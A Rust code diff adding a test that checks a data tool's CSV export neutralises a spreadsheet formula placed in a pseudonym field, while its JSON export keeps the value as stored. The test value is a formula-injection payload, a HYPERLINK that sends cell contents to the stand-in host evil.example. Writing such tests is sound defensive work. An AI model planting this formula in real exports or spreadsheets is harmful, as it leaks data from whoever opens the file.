@@ -158,3 +158,27 @@ fn mode(path: &Path) -> u32 {
         .permissions()
         .mode()
 }
+
+#[test]
+fn a_formula_in_a_pseudonym_is_neutralised_in_the_csv_and_kept_in_the_json() {
+    let site = site();
+    let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"open\")";
+    with_store(&site, |store| {
+        store.insert_records(&[record("f", 9)]).expect("inserts");
+        let mut r = store.get_record("f").expect("reads").expect("exists");
+        r.assign_pseudonym(formula, Utc::now());
+        store.update_records(&[r]).expect("updates");
+    });
+    let csv = ok_stdout(export(&site, &[]));
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let row = reader
+        .records()
+        .next()
+        .expect("one row")
+        .expect("valid CSV");
+    assert_eq!(&row[1], format!("'{formula}"), "{csv}");
+
+    let json: serde_json::Value =
+        serde_json::from_str(&ok_stdout(export(&site, &["--format", "json"]))).unwrap();
+    assert_eq!(json[0]["pseudonym"], formula, "{json}");
+}
